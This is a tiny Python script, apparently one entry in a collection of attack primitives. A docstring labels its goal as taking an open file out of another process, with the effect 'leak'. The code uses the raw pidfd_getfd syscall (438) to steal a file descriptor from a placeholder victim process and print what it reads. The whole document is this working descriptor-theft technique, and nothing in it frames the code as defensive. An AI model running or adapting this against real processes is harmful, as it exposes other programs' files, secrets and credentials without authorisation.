"""
goal: take an open file out of another process
effect: leak
needs: kernel/yama/ptrace_scope<=1
"""

import ctypes
import os

fd = ctypes.CDLL(None).syscall(438, os.pidfd_open(VICTIM), 99, 0)
print(os.pread(fd, 100, 0))
